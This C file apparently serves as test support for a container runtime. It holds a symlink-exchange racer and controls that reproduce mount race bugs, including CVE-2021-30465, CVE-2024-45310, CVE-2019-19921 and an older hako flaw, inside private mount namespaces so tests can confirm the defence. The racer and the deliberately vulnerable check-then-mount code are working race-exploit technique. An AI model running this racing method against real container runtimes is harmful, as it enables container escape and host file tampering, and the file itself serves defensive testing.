/* The attackers and the controls of the mount race tests (test/security/
 * mount-*.test.ts, cve-*.test.ts), compiled by the tests with the host's cc.
 *
 *   exchange DIR A B [CPU|- [COUNTER]]
 *       The co-tenant: renameat2(RENAME_EXCHANGE) of DIR/A and DIR/B in a
 *       loop until killed (or its parent dies), pinned to CPU if given,
 *       counting its exchanges in the file COUNTER if given.
 *
 * The controls do, in a loop of at most N attempts, what a runtime without
 * the defence did, each attempt in a child with a private mount namespace
 * (nothing reaches the host's mount table). They print "won <attempt>" at
 * the first attempt whose outcome shows the attack working, or "lost <N>".
 * With RACER_COUNTER set (the racer's COUNTER file), an attempt starts its
 * check only once the racer has been seen exchanging again: on a busy
 * machine the racer loses the CPU for stretches, and attempts made then
 * cannot win.
 *
 * REL is the directory inside the volume V where the racer exchanges names
 * (a deep one makes every lookup through it, hako's as well, slower, and
 * so the race easier to win for whoever leaves a window).
 *
 *   reopen ROOT V W S REL N      the old hako mount_one: bind S onto the
 *       fd of ROOT/v/REL/ro, re-find that path, remount it read-only.
 *       Won when the mount of S is left writable or W became read-only.
 *   mount-by-path ROOT V A Q REL N   CVE-2021-30465: check that
 *       ROOT/vol/REL/race is a directory inside ROOT, then mount A there by
 *       its string path. Won when the host path Q shows A's content.
 *   mkdir-by-path V Q REL N      CVE-2024-45310: check that V/REL/race is
 *       a directory, then mkdir("V/REL/race/n<i>") by its string path. Won
 *       when the directory appeared in the host directory Q instead.
 *   proc-by-path ROOT V N        CVE-2019-19921: mount procfs on the
 *       securejoin'd path of ROOT/proc, then bind ROOT/proc/sys onto itself
 *       read-only, both by string path. Won when no read-only mount of
 *       procfs's sys directory exists afterwards.
 *   source-by-path ROOT SRC N    the source race: statfs(SRC) says procfs,
 *       then mount(SRC, ROOT/proc) by path. Won when what is mounted at
 *       ROOT/proc is not a procfs.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/magic.h>
#include <linux/openat2.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static void die(const char *what)
{
	fprintf(stderr, "%s: %s\n", what, strerror(errno));
	exit(2);
}

static void pin(const char *cpu)
{
	if (!cpu)
		return;
	cpu_set_t set;
	CPU_ZERO(&set);
	CPU_SET(atoi(cpu), &set);
	/* Best effort: a CPU we may not use leaves us where we are. */
	(void)sched_setaffinity(0, sizeof(set), &set);
}

static volatile uint64_t *map_counter(const char *path, bool create)
{
	int fd = open(path, create ? O_RDWR | O_CREAT | O_CLOEXEC : O_RDONLY | O_CLOEXEC, 0600);
	if (fd < 0 || (create && ftruncate(fd, sizeof(uint64_t)) < 0))
		die("open the counter");
	void *p = mmap(NULL, sizeof(uint64_t), create ? PROT_READ | PROT_WRITE : PROT_READ, MAP_SHARED, fd, 0);
	if (p == MAP_FAILED)
		die("map the counter");
	close(fd);
	return p;
}

static int exchange(const char *dir, const char *a, const char *b, const char *cpu, const char *counter)
{
	pid_t parent = getppid();
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	if (getppid() != parent)
		return 0;
	if (cpu && strcmp(cpu, "-") != 0)
		pin(cpu);
	volatile uint64_t *n = counter ? map_counter(counter, true) : NULL;
	int d = open(dir, O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (d < 0)
		die("open the shared directory");
	for (;;) {
		if (renameat2(d, a, d, b, RENAME_EXCHANGE) < 0)
			die("renameat2");
		if (n)
			__atomic_add_fetch(n, 1, __ATOMIC_RELAXED);
	}
}

static volatile uint64_t *racer;

/* Until the racer has made two more exchanges (bounded: it may have died). */
static void racer_running(void)
{
	if (!racer)
		return;
	uint64_t start = __atomic_load_n(racer, __ATOMIC_RELAXED);
	for (int i = 0; i < 1000000 && __atomic_load_n(racer, __ATOMIC_RELAXED) < start + 2; i++)
		sched_yield();
}

static int in_root(int root, const char *path, int flags)
{
	struct open_how how = {.flags = (unsigned)(flags | O_CLOEXEC), .resolve = RESOLVE_IN_ROOT | RESOLVE_NO_MAGICLINKS};
	int fd;
	do
		fd = (int)syscall(SYS_openat2, root, path, &how, sizeof(how));
	while (fd < 0 && errno == EAGAIN);
	return fd;
}

static const char *fdpath(int fd)
{
	static char buf[64];
	snprintf(buf, sizeof(buf), "/proc/self/fd/%d", fd);
	return buf;
}

/* What SecureJoin returns: the path, resolved inside root, as a string. */
static bool securejoin(int root, const char *path, char *out, size_t n)
{
	int fd = in_root(root, path, O_PATH);
	if (fd < 0)
		return false;
	ssize_t l = readlink(fdpath(fd), out, n - 1);
	close(fd);
	if (l < 0)
		return false;
	out[l] = 0;
	return true;
}

static void private_ns(void)
{
	if (unshare(CLONE_NEWNS) < 0)
		die("unshare");
	if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
		die("make / private");
}

static void bind(const char *src, const char *dst)
{
	if (mount(src, dst, NULL, MS_BIND, NULL) < 0)
		die("bind");
}

/* Mount-table lines "<root> <mountpoint> <options> <fstype>" of mounts under prefix. */
struct mnt {
	char root[4096], point[4096], opts[512], fstype[64];
};

static int mounts_under(const char *prefix, struct mnt *out, int max)
{
	FILE *f = fopen("/proc/self/mountinfo", "r");
	if (!f)
		die("open mountinfo");
	char line[16384];
	int n = 0;
	size_t pl = strlen(prefix);
	while (n < max && fgets(line, sizeof(line), f)) {
		struct mnt *m = &out[n];
		char *sep = strstr(line, " - ");
		if (!sep || sscanf(line, "%*s %*s %*s %4095s %4095s %511s", m->root, m->point, m->opts) != 3 ||
		    sscanf(sep + 3, "%63s", m->fstype) != 1)
			continue;
		if (strncmp(m->point, prefix, pl) == 0 && (m->point[pl] == '/' || m->point[pl] == 0))
			n++;
	}
	fclose(f);
	return n;
}

static bool ro(const struct mnt *m) { return strncmp(m->opts, "ro", 2) == 0 && (m->opts[2] == ',' || m->opts[2] == 0); }

static bool ends_with(const char *s, const char *suffix)
{
	size_t a = strlen(s), b = strlen(suffix);
	return a >= b && strcmp(s + a - b, suffix) == 0;
}

/* The old hako: mount via the target's fd, then find the mount again by path. */
static bool attempt_reopen(const char *root, const char *v, const char *w, const char *s, const char *rel)
{
	private_ns();
	char rv[4096], rw[4096], target[4096];
	snprintf(rv, sizeof(rv), "%s/v", root);
	snprintf(rw, sizeof(rw), "%s/w", root);
	snprintf(target, sizeof(target), "v/%s/ro", rel);
	bind(v, rv);
	bind(w, rw);
	int rfd = open(root, O_PATH | O_DIRECTORY | O_CLOEXEC);
	racer_running();
	int tfd = in_root(rfd, target, O_PATH);
	if (tfd < 0)
		die("open the target");
	if (mount(s, fdpath(tfd), NULL, MS_BIND, NULL) < 0)
		die("bind the volume");
	int mfd = in_root(rfd, target, O_PATH);
	struct statx stx;
	if (mfd >= 0 && statx(mfd, "", AT_EMPTY_PATH, 0, &stx) == 0 && (stx.stx_attributes & STATX_ATTR_MOUNT_ROOT))
		mount(NULL, fdpath(mfd), NULL, MS_REMOUNT | MS_BIND | MS_RDONLY, NULL);
	/* The volume's mounts (root path ends with its name) must all be read-only, W's writable. */
	struct mnt ms[64];
	int n = mounts_under(root, ms, 64);
	for (int i = 0; i < n; i++) {
		if (ends_with(ms[i].root, strrchr(s, '/')) && !ro(&ms[i]))
			return true;
		if (ends_with(ms[i].root, strrchr(w, '/')) && ro(&ms[i]))
			return true;
	}
	return false;
}

/* runc before 1.0.0-rc95: SecureJoin, then mount(2) on the string. */
static bool attempt_mount_by_path(const char *root, const char *v, const char *a, const char *q, const char *rel)
{
	private_ns();
	char rv[4096], target[4096], dest[4096];
	snprintf(rv, sizeof(rv), "%s/vol", root);
	snprintf(dest, sizeof(dest), "vol/%s/race", rel);
	bind(v, rv);
	int rfd = open(root, O_PATH | O_DIRECTORY | O_CLOEXEC);
	racer_running();
	if (!securejoin(rfd, dest, target, sizeof(target)))
		return false;
	struct stat st;
	if (stat(target, &st) < 0 || !S_ISDIR(st.st_mode) || strncmp(target, root, strlen(root)) != 0)
		return false;
	if (mount(a, target, NULL, MS_BIND, NULL) < 0)
		return false;
	/* A later mount whose source is under q now reads the attacker's tree. */
	char probe[4096], want[256] = "", got[256] = "";
	snprintf(probe, sizeof(probe), "%s/secret", a);
	FILE *f = fopen(probe, "r");
	if (f) {
		if (!fgets(want, sizeof(want), f))
			want[0] = 0;
		fclose(f);
	}
	snprintf(probe, sizeof(probe), "%s/secret", q);
	f = fopen(probe, "r");
	if (f) {
		if (!fgets(got, sizeof(got), f))
			got[0] = 0;
		fclose(f);
	}
	return want[0] && strcmp(want, got) == 0;
}

/* runc 1.1.13: MkdirAll on the SecureJoin'd string. */
static bool attempt_mkdir_by_path(const char *v, const char *q, const char *rel, int i)
{
	char race[4096], dir[4096];
	snprintf(race, sizeof(race), "%s/%s/race", v, rel);
	struct stat st;
	racer_running();
	if (lstat(race, &st) < 0 || !S_ISDIR(st.st_mode))
		return false;
	snprintf(dir, sizeof(dir), "%s/%s/race/n%d", v, rel, i);
	if (mkdir(dir, 0755) < 0)
		return false;
	/* Where it went: through the symlink, into the host directory? */
	snprintf(dir, sizeof(dir), "%s/n%d", q, i);
	return lstat(dir, &st) == 0;
}

/* runc before 1.0.0-rc10 (and again until 1.1.5): procfs mounted on the
 * SecureJoin'd /proc, /proc/sys found again by path for its read-only bind. */
static bool attempt_proc_by_path(const char *root, const char *v)
{
	private_ns();
	char rv[4096], target[4096];
	snprintf(rv, sizeof(rv), "%s/evil", root);
	bind(v, rv);
	int rfd = open(root, O_PATH | O_DIRECTORY | O_CLOEXEC);
	racer_running();
	if (!securejoin(rfd, "proc", target, sizeof(target)))
		return false;
	if (mount("proc", target, "proc", MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL) < 0)
		return false;
	if (!securejoin(rfd, "proc/sys", target, sizeof(target)))
		return true; /* /proc/sys is not even there: nothing was made read-only */
	if (mount(target, target, NULL, MS_BIND | MS_REC, NULL) < 0 ||
	    mount(NULL, target, NULL, MS_REMOUNT | MS_BIND | MS_RDONLY, NULL) < 0)
		return true;
	struct mnt ms[64];
	int n = mounts_under(root, ms, 64);
	for (int i = 0; i < n; i++)
		if (strcmp(ms[i].fstype, "proc") == 0 && strcmp(ms[i].root, "/sys") == 0 && ro(&ms[i]))
			return false;
	return true;
}

/* The source checked by name, then mounted by name. */
static bool attempt_source_by_path(const char *root, const char *src)
{
	private_ns();
	struct statfs sfs;
	racer_running();
	if (statfs(src, &sfs) < 0 || sfs.f_type != PROC_SUPER_MAGIC)
		return false;
	char target[4096];
	snprintf(target, sizeof(target), "%s/proc", root);
	if (mount(src, target, NULL, MS_BIND, NULL) < 0)
		return false;
	return statfs(target, &sfs) == 0 && sfs.f_type != PROC_SUPER_MAGIC;
}

static int control(int n, const char *kind, char **a)
{
	for (int i = 0; i < n; i++) {
		pid_t pid = fork();
		if (pid < 0)
			die("fork");
		if (pid == 0) {
			bool won = false;
			if (strcmp(kind, "reopen") == 0)
				won = attempt_reopen(a[0], a[1], a[2], a[3], a[4]);
			else if (strcmp(kind, "mount-by-path") == 0)
				won = attempt_mount_by_path(a[0], a[1], a[2], a[3], a[4]);
			else if (strcmp(kind, "mkdir-by-path") == 0)
				won = attempt_mkdir_by_path(a[0], a[1], a[2], i);
			else if (strcmp(kind, "proc-by-path") == 0)
				won = attempt_proc_by_path(a[0], a[1]);
			else if (strcmp(kind, "source-by-path") == 0)
				won = attempt_source_by_path(a[0], a[1]);
			_exit(won ? 1 : 0);
		}
		int status;
		while (waitpid(pid, &status, 0) < 0)
			if (errno != EINTR)
				die("waitpid");
		if (!WIFEXITED(status) || WEXITSTATUS(status) > 1) {
			fprintf(stderr, "attempt %d: the control failed\n", i);
			return 2;
		}
		if (WEXITSTATUS(status) == 1) {
			printf("won %d\n", i + 1);
			return 0;
		}
	}
	printf("lost %d\n", n);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc >= 5 && strcmp(argv[1], "exchange") == 0)
		return exchange(argv[2], argv[3], argv[4], argc > 5 ? argv[5] : NULL, argc > 6 ? argv[6] : NULL);
	const char *counter = getenv("RACER_COUNTER");
	if (counter && *counter)
		racer = map_counter(counter, false);
	static const struct {
		const char *kind;
		int args;
	} kinds[] = {{"reopen", 5}, {"mount-by-path", 5}, {"mkdir-by-path", 3}, {"proc-by-path", 2}, {"source-by-path", 2}};
	for (size_t k = 0; k < sizeof(kinds) / sizeof(kinds[0]); k++)
		if (argc == kinds[k].args + 3 && strcmp(argv[1], kinds[k].kind) == 0)
			return control(atoi(argv[argc - 1]), kinds[k].kind, argv + 2);
	fprintf(stderr, "usage: see the comment at the top of mount-attacks.c\n");
	return 2;
}
